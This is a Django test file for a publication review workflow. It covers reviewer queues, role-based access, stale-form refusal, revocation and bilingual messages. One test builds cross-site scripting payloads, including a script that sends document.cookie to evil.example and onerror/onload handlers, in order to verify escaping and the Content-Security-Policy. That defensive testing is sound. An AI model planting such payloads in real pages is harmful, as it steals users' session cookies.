"""The pages of review, by their forms: whom they let in, what they show, and what of an author's never reaches them."""

import nbformat.v4 as v4
import pytest
from django.test import Client

from regional_hub.core.models import Notice
from regional_hub.showcase.about import About
from regional_hub.showcase.actions import comments, sharing
from regional_hub.showcase.actions.sharing import To, publish
from regional_hub.showcase.bundle import Bundle
from regional_hub.showcase.models import Check, Comment, Publication, Revision
from tests.showcase.bundles import bundle, notebook_bytes
from tests.showcase.reviewing import WATER, in_review, pass_checks, role, submit

pytestmark = pytest.mark.django_db


@pytest.fixture
def rita(make_person):
    return make_person("rita", "reviewers")


@pytest.fixture
def sam(make_person):
    return make_person("sam", "reviewers")


def text(response) -> str:
    return response.content.decode()


def post(client, revision, what, **fields):
    return client.post(f"/showcase/review/{revision.pk}/{what}/", fields, follow=True)


@pytest.mark.parametrize("language", ["en", "zh-hans"])
def test_an_empty_queue_says_what_happens_here(rita, signed_in, language):
    client = signed_in(rita)
    client.cookies["hub_language"] = language

    shown = text(client.get("/showcase/review/"))

    assert ("Nothing waits for review" if language == "en" else "没有等待评审的内容") in shown


def test_the_queue_shows_age_checks_and_who_has_it(alice, rita, signed_in):
    revision = in_review(alice)
    revision.checks.filter(name="pictures").update(outcome=Check.Outcome.WARNED)
    client = signed_in(rita)
    post(client, revision, "take", role="method", no_conflict="on")

    shown = text(client.get("/showcase/review/"))

    assert f"/showcase/review/{revision.pk}/" in shown and "Water of the Chu" in shown and "<time" in shown
    assert "Pictures have texts" in shown and "rita" in shown and "nobody yet" in shown
    assert "1 review waits for your decision" in shown


def test_two_reviewers_bring_a_notebook_to_the_public_by_forms(alice, rita, sam, signed_in):
    revision = in_review(alice)
    for person, name in ((rita, "method"), (sam, "disclosure")):
        client = signed_in(person)
        assert "Take this review" in text(client.get(f"/showcase/review/{revision.pk}/"))
        post(client, revision, "take", role=name, no_conflict="on")
        page = text(client.get(f"/showcase/review/{revision.pk}/"))
        assert f'name="digest" value="{revision.digest}"' in page
        ended = post(client, revision, "decide", role=name, digest=revision.digest, decision="approved")

    assert "it is public" in text(ended)
    assert Publication.objects.get().public_revision == revision
    assert Client().get("/showcase/water-of-the-chu/").status_code == 200


def test_an_old_form_for_a_newer_revision_is_refused_with_words(alice, rita, signed_in):
    first = in_review(alice)
    client = signed_in(rita)
    post(client, first, "take", role="method", no_conflict="on")
    old = {"role": "method", "digest": first.digest, "decision": "approved"}
    second = in_review(alice, "Changed", first.publication.slug)

    assert "no longer in review" in text(post(client, first, "decide", **old))
    post(client, second, "take", role="method", no_conflict="on")
    assert "Nothing was decided" in text(post(client, second, "decide", **old))
    assert role(second, "method").decision == "open"


def test_who_lost_the_group_between_form_and_post_is_refused(alice, rita, signed_in):
    revision = in_review(alice)
    client = signed_in(rita)
    post(client, revision, "take", role="method", no_conflict="on")
    rita.groups.clear()

    assert (
        post(client, revision, "decide", role="method", digest=revision.digest, decision="approved").status_code == 403
    )
    assert role(revision, "method").decision == "open"


def test_an_author_who_posts_directly_is_refused(alice, rita, signed_in):
    revision = in_review(alice)
    client = signed_in(alice)

    for what in ("take", "decide", "assign"):
        sent = {
            "role": "method",
            "no_conflict": "on",
            "digest": revision.digest,
            "decision": "approved",
            "person": "alice",
        }
        assert post(client, revision, what, **sent).status_code == 403
    assert not role(revision, "method").reviewer


def test_the_author_sees_checks_and_comments_and_answers(alice, rita, signed_in):
    revision = in_review(alice)
    post(signed_in(rita), revision, "comment", cell="c2", text="Which year is this?")
    client = signed_in(alice)

    shown = text(client.get(f"/showcase/review/{revision.pk}/"))
    assert "Which year is this?" in shown and "Take this review" not in shown and "Runs from top to bottom" in shown
    post(client, revision, "comment", cell="c2", text="2024.")

    assert list(Comment.objects.values_list("cell", "of_review")) == [("c2", True), ("c2", True)]
    assert Notice.objects.filter(person=rita, kind="publication-commented").exists()


def test_a_failed_revision_tells_its_author_what_to_do(alice, signed_in):
    revision = submit(alice)
    found = [{"where": "c2", "text": "no good", "text_zh": "不好"}]
    revision.checks.filter(name="secrets").update(outcome="failed", found=found)
    Revision.objects.update(state="failed")
    client = signed_in(alice)

    shown = text(client.get(f"/showcase/review/{revision.pk}/"))
    client.cookies["hub_language"] = "zh-hans"
    chinese = text(client.get(f"/showcase/review/{revision.pk}/"))

    assert "Correct what is marked" in shown and "no good" in shown and "Check again" in shown
    assert "不好" in chinese and "无秘密信息" in chinese and "no good" not in chinese


def test_reviewers_see_the_words_that_they_approve_and_no_later_ones(alice, rita, signed_in):
    said = About("The true title", "真标题", "What it says", licence="MIT", tags=("water",), goals=(6,), kind="app")
    revision = pass_checks(publish(alice, bundle(), said, To("public")).revision)
    Publication.objects.update(title="Something harmless", title_zh="", summary="", licence="CC0-1.0", kind="page")

    shown = text(signed_in(rita).get(f"/showcase/review/{revision.pk}/"))

    for word in ("The true title", "真标题", "What it says", "MIT", "water", "Live app", "data.csv"):
        assert word in shown, word
    assert "Something harmless" not in shown.split("<main")[1] and "CC0-1.0" not in shown


def test_what_its_author_took_back_leaves_the_reviewers_sight(alice, rita, signed_in):
    revision = in_review(alice)
    client = signed_in(rita)
    assert client.get(f"/showcase/review/{revision.pk}/").status_code == 200

    sharing.revoke(alice, revision.publication)

    assert client.get(f"/showcase/review/{revision.pk}/").status_code == 404
    assert client.get("/showcase/water-of-the-chu/r/1/").status_code == 404
    assert signed_in(alice).get(f"/showcase/review/{revision.pk}/").status_code == 200


def test_nobody_else_sees_a_review(alice, make_person, signed_in):
    revision = in_review(alice)
    stranger = signed_in(make_person("eve", "researchers"))

    assert stranger.get(f"/showcase/review/{revision.pk}/").status_code == 404
    assert stranger.get("/showcase/review/").status_code == 403
    assert post(stranger, revision, "comment", text="hello").status_code == 404
    assert Client().get(f"/showcase/review/{revision.pk}/").status_code == 302
    assert Client().get("/showcase/review/").status_code == 302


def test_what_was_only_shared_is_in_no_review(alice, rita, signed_in):
    made = publish(alice, Bundle("a.ipynb", {"a.ipynb": notebook_bytes()}), WATER, To("hub"))

    assert signed_in(rita).get(f"/showcase/review/{made.revision.pk}/").status_code == 404


def test_an_administrator_assigns_without_reading_what_is_not_public(alice, admin, rita, signed_in):
    revision = in_review(alice)
    client = signed_in(admin)

    shown = text(client.get(f"/showcase/review/{revision.pk}/"))
    assert "Assign to" in shown and "open(&#x27;data.csv&#x27;)" not in shown
    post(client, revision, "assign", role="method", person="Rita")

    assert role(revision, "method").reviewer == rita
    assert "Accept this review" in text(signed_in(rita).get(f"/showcase/review/{revision.pk}/"))


def test_a_notebook_that_reads_the_reviewers_cookies_has_nothing_to_run_on(alice, rita, signed_in, settings):
    evil = "<script>fetch('//evil.example/'+document.cookie)</script>"
    outputs = [
        v4.new_output(
            "display_data", data={"text/html": evil, "text/plain": evil, "application/javascript": "steal()"}
        ),
        v4.new_output("stream", name="stdout", text=evil),
        v4.new_output("error", ename=evil, evalue=evil, traceback=[evil]),
        v4.new_output("display_data", data={"image/svg+xml": f"<svg onload='steal()'>{evil}</svg>"}),
    ]
    cells = [v4.new_markdown_cell(f"{evil}<img src=x onerror=steal()>"), v4.new_code_cell(evil, outputs=outputs)]
    content = notebook_bytes(*cells)
    revision = publish(alice, Bundle("a.ipynb", {"a.ipynb": content}), WATER, To("public"), note=evil).revision
    revision.checks.update(found=[{"where": evil, "text": evil, "text_zh": evil}])
    pass_checks(revision)
    comments.comment(alice, revision, evil, "c1", of_review=True)

    response = signed_in(rita).get(f"/showcase/review/{revision.pk}/")

    assert settings.SESSION_COOKIE_HTTPONLY and settings.CSRF_COOKIE_HTTPONLY
    shown = text(response)
    assert "&lt;script&gt;fetch(" in shown
    assert "<script>" not in shown and "<img src=x" not in shown and "<svg onload" not in shown
    policy = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]


def test_reviewers_find_the_queue_and_authors_their_review(alice, rita, signed_in):
    revision = in_review(alice)

    assert "/showcase/review/" in text(signed_in(rita).get("/showcase/shared/"))
    shown = text(signed_in(alice).get("/showcase/mine/"))
    assert f"/showcase/review/{revision.pk}/" in shown and 'href="/showcase/review/"' not in shown
